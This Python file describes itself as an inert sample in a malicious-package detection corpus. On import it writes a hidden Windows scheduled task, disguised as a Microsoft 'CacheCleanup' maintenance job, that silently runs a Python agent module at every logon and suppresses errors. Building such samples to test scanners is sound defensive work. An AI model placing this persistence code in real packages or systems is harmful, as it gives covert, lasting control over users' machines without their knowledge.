# pkgguard corpus 815 (persistence), modelled on [stealer-profile]; inert, never run.
import os
import sys

_TASK = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>
  <Settings><Hidden>true</Hidden></Settings>
  <Actions Context="Author"><Exec><Command>{python}</Command><Arguments>-m pkg._agent</Arguments></Exec></Actions>
</Task>
"""

if sys.platform == "win32":
    folder = os.path.join(os.environ.get("SystemRoot", r"C:\Windows"), "System32", "Tasks", "Microsoft", "Windows", "Maintenance")
    try:
        with open(os.path.join(folder, "CacheCleanup"), "w", encoding="utf-16") as fh:
            fh.write(_TASK.format(python=sys.executable.replace("python.exe", "pythonw.exe")))
    except OSError:
        pass
